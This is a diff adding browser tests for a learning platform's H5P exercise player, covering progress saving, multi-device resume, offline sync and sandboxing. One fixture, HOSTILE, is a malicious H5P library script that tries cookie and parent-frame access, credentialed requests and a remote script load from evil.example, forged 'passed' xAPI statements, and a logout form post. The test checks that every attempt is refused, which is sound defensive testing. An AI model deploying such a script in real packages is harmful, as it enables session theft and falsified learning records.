@@ -1,13 +1,22 @@
 """Interactive contents in a real browser: played, kept, resumed; and hostile ones that get nowhere."""
 
+import json
+from time import sleep
+
 import pytest
+from playwright.sync_api import Route, expect
 from wagtail.models import Page as WagtailPage
 
+from learning.evidence.models import Evidence, Kind
+from learning.tracking.models import ActivityPage, Play, PlayResult, PlayState, Statement
 from membership.models import User
-from tests.factories.packages import let_in, package
+from tests.browser.conftest import say
+from tests.factories.activities import add_activity, enrolled
+from tests.factories.packages import PARAMS, content, let_in, library, package, packed
 from tests.factories.pages import publish
 from tests.factories.people import add_user
 from training_materials.models import LessonPage
+from training_materials.player.tokens import address_of
 
 pytestmark = pytest.mark.browser
 
@@ -33,6 +42,27 @@ def stage(visitor):
 
 def open_course(way) -> None:
     WagtailPage.objects.get(pk=way.course.pk).specific.save_revision().publish()
+    way.course.refresh_from_db()
+
+
+@pytest.fixture
+def activity(way, version):
+    passed = ActivityPage.Completion.PASSED
+    page = add_activity(way.course, version.package, completion=passed, pass_mark=80)
+    open_course(way)
+    return page
+
+
+def learner(visitor, activity):
+    """An, signed in and at the activity."""
+    an = visitor()
+    an.sign_in("an")
+    an.open("/hoc-tap/ky-nang-so/thu-suc/")
+    return an
+
+
+def saved(visitor) -> None:
+    expect(visitor.page.locator("[data-play-status]")).to_contain_text(say("Saved at {time}.").split("{")[0])
 
 
 def test_an_exercise_in_a_lesson_plays_for_guests_and_stores_nothing(way, version, visitor):
@@ -48,3 +78,155 @@ def test_an_exercise_in_a_lesson_plays_for_guests_and_stores_nothing(way, versio
     frame = guest.page.locator("[data-package] iframe")
     assert frame.get_attribute("sandbox") == "allow-scripts allow-forms"
     guest.check()
+
+
+def test_from_launch_to_evidence_with_slow_styles_and_on_another_device(way, activity, visitor):
+    enrolled(way.standing.an, way.course)
+
+    def late(route: Route) -> None:
+        sleep(0.3)
+        route.continue_()
+
+    first = visitor()
+    first.page.route("**/all.css", late)
+    first.page.route("**/h5p.css", late)
+    first.sign_in("an")
+    first.open("/hoc-tap/ky-nang-so/thu-suc/")
+    answer = stage(first).locator(".tiny-answer").first
+    answer.click()
+    assert answer.evaluate("button => getComputedStyle(button).minHeight") == "48px"
+    saved(first)
+    first.page.close()
+
+    second = learner(visitor, activity)
+    again = stage(second).locator(".tiny-answer").first
+    expect(again).to_have_attribute("aria-pressed", "true")
+    stage(second).locator(".tiny-check").click()
+    expect(second.page.locator("[data-play-done]")).to_be_visible()
+    second.check()
+    assert Play.objects.count() == 1
+    assert PlayResult.objects.get().verdict == "verified"
+    assert Evidence.objects.get(kind=Kind.ACTIVITY_COMPLETED).person_id == way.standing.an.person_id
+
+
+def test_two_tabs_and_a_lost_network_lose_nothing(way, activity, visitor):
+    enrolled(way.standing.an, way.course)
+    an = learner(visitor, activity)
+    other = an.page.context.new_page()
+    other.goto(an.page.url)
+    there = other.frame_locator("[data-package] iframe")
+    there.locator(".tiny-answer").first.wait_for()
+    stage(an).locator(".tiny-answer").first.click()
+    saved(an)
+    an.page.context.set_offline(True)
+    stage(an).locator(".tiny-check").click()
+    expect(an.page.locator("[data-play-status]")).to_have_text(
+        say("Not sent yet. It is kept on this device and sent when the connection is back.")
+    )
+    an.page.close()
+    an.page.context.set_offline(False)
+    other.reload()
+    expect(there.locator(".tiny-answer").first).to_have_attribute("aria-pressed", "true")
+    expect(other.locator("[data-play-done]")).to_be_visible()
+    assert Play.objects.count() == 1
+    assert PlayResult.objects.count() == 1
+    assert PlayState.objects.count() == 1
+
+
+def test_several_exercises_begin_one_at_a_time_as_they_come_into_view(way, version, visitor):
+    blocks = [("package", {"title": f"Thử sức {place}", "package": version.package}) for place in range(3)]
+    lesson = publish(way.course, LessonPage(title="Nhiều bài", slug="nhieu-bai", is_open=True, body=blocks))
+    open_course(way)
+    guest = visitor()
+    guest.open(lesson.get_url())
+    guest.page.frame_locator("[data-package] >> nth=0 >> iframe").locator(".tiny-answer").first.wait_for()
+    last = guest.page.locator("[data-package]").nth(2)
+    assert last.locator("iframe").count() == 0
+    last.scroll_into_view_if_needed()
+    guest.page.frame_locator("[data-package] >> nth=2 >> iframe").locator(".tiny-answer").first.wait_for()
+
+
+HOSTILE = """
+H5P.MultiChoice = function (params, contentId) {
+  H5P.EventDispatcher.call(this);
+  this.contentId = contentId;
+};
+H5P.MultiChoice.prototype = Object.create(H5P.EventDispatcher.prototype);
+H5P.MultiChoice.prototype.constructor = H5P.MultiChoice;
+H5P.MultiChoice.prototype.getXAPIData = function () {
+  return { statement: { actor: { mbox: 'mailto:admin@example.vn' }, verb: { id: 'http://evil.example/passed' },
+    object: { id: 'https://evil.example/course' }, result: { completion: true, success: true, response: '1',
+    score: { raw: 1, max: 1, scaled: 1 } } } };
+};
+H5P.MultiChoice.prototype.attach = async function ($container) {
+  const told = {};
+  const attempt = async (name, act) => {
+    try { told[name] = String(await act()); } catch (error) { told[name] = 'refused'; }
+  };
+  const ask = async (address, method) => (await fetch(address, { method, credentials: 'include' })).status;
+  await attempt('cookie', () => document.cookie);
+  await attempt('parent', () => parent.document.title);
+  await attempt('parentCookie', () => parent.document.cookie);
+  await attempt('storage', () => parent.localStorage.length);
+  await attempt('frame', () => window.frameElement.ownerDocument.title);
+  await attempt('fetch', () => ask('/hoc-tap/', 'GET'));
+  await attempt('post', () => ask('/tai-khoan/logout/', 'POST'));
+  await attempt('elsewhere', () => ask('https://evil.example/', 'GET'));
+  await attempt('top', () => { top.location = 'https://evil.example/'; return 'went'; });
+  await attempt('popup', () => (window.open('https://evil.example/') ? 'opened' : 'refused'));
+  await attempt('script', () => new Promise((settle, fail) => {
+    const script = document.createElement('script');
+    script.src = 'https://evil.example/x.js'; script.onload = () => settle('ran'); script.onerror = fail;
+    document.head.append(script);
+  }));
+  await attempt('eval', () => new Function('return "ran"')());
+  await attempt('inline', () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.ran = "ran"';
+    document.head.append(script);
+    return window.ran || 'refused';
+  });
+  const form = document.createElement('form');
+  form.method = 'post'; form.action = '/tai-khoan/logout/'; document.body.append(form);
+  await attempt('form', () => { form.submit(); return 'sent'; });
+  for (let round = 0; round < 3; round++) this.triggerXAPI('completed');
+  parent.postMessage({ package: 1, name: 'result', verb: 'completed', data: this.getXAPIData() }, '*');
+  parent.postMessage({ package: 1, name: 'hello' }, '*');
+  parent.postMessage({ package: 1, name: 'size', height: 1e9 }, '*');
+  $container.append(H5P.jQuery('<pre class="told"></pre>').text(JSON.stringify(told)));
+};
+"""
+
+
+def test_a_hostile_library_gets_nowhere(way, administrator, private_files, visitor):
+    evil = library(script=HOSTILE)
+    version = let_in(packed(content(PARAMS), evil), by=way.standing.binh, administrator=administrator)
+    passed = ActivityPage.Completion.PASSED
+    add_activity(way.course, version.package, completion=passed, pass_mark=50)
+    open_course(way)
+    enrolled(way.standing.an, way.course)
+    an = visitor()
+    an.sign_in("an")
+    opened = []
+    an.page.context.on("page", lambda page: opened.append(page.url))
+    an.open("/hoc-tap/ky-nang-so/thu-suc/")
+    told = json.loads(stage(an).locator(".told").inner_text())
+    assert told.pop("cookie") == ""
+    assert told.pop("form") == "sent"  # the call returns; the policy stops what it asks for
+    assert set(told.values()) == {"refused"}, told
+    saved(an)
+    assert an.page.url.endswith("/hoc-tap/ky-nang-so/thu-suc/")
+    assert opened == []
+    an.open("/hoc-tap/")
+    assert "/login/" not in an.page.url
+    assert set(PlayResult.objects.values_list("verdict", flat=True)) == {"rejected"}
+    assert not Evidence.objects.exists()
+    assert "evil" not in str(list(Statement.objects.values_list("body", flat=True)))
+
+
+def test_a_package_opened_by_its_address_alone_runs_nothing(way, version, visitor, live_server):
+    guest = visitor()
+    guest.page.goto(live_server.url + address_of(version.pk))
+    guest.page.wait_for_load_state("networkidle")
+    assert guest.page.evaluate("typeof window.H5P") == "undefined"
+    assert guest.page.evaluate("window.origin") == "null"
